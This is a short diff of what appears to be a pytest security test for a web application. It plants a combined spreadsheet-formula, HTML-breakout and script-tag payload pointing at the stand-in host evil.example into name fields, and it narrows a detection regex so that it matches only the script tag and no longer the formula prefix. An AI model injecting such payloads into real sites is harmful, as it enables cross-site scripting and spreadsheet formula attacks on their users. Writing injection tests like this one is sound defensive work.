@@ -21,7 +21,7 @@ pytestmark = pytest.mark.once
 
 # A formula in a spreadsheet; the end of an attribute and of a box; a script. Short enough for the name of a person.
 PLANTED = "=1+1\"'></textarea><script src=//evil.example></script>"
-RUNS = re.compile(rb"""=1\+1["']|<script src=//evil""", re.IGNORECASE)
+RUNS = re.compile(rb"<script src=//evil", re.IGNORECASE)
 FORMULA = re.compile(r"[=+@\t\r]|-(?![\d.,]+%?$)")
 NAMES = {("accounts.Person", "name"), ("accounts.Person", "job_title"), ("accounts.Team", "name"), ("accounts.Service", "name")}
 NAMES |= {("council.Council", "name"), ("audits.Domain", "name"), ("audits.Question", "text"), ("performance.Place", "name")}
